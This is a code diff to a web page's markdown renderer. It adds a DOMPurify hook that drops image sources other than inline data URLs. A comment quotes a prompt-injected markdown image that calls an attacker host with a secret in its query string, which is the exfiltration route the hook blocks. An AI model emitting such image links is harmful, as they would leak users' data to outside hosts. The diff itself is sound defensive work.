@@ -8,6 +8,14 @@ import DOMPurify from "../vendor/purify.js";
 const marked = new Marked({ gfm: true, breaks: false, async: false });
 
 const purifier = DOMPurify(window);
+purifier.addHook("uponSanitizeAttribute", (node, data) => {
+  // An image in an answer may only be inline data: a URL would be fetched, and a prompt-
+  // injected `![](https://attacker/?q=<secret>)` would carry data out. (The page's CSP blocks
+  // such a fetch too; this keeps it from being tried, and the image shows its alt text.)
+  if (node.tagName === "IMG" && data.attrName === "src" && !/^data:image\/(png|jpeg|gif|webp);/i.test(data.attrValue)) {
+    data.keepAttr = false;
+  }
+});
 purifier.addHook("afterSanitizeAttributes", (node) => {
   // Links open elsewhere and do not hand this page to the target.
   if (node.tagName === "A") {
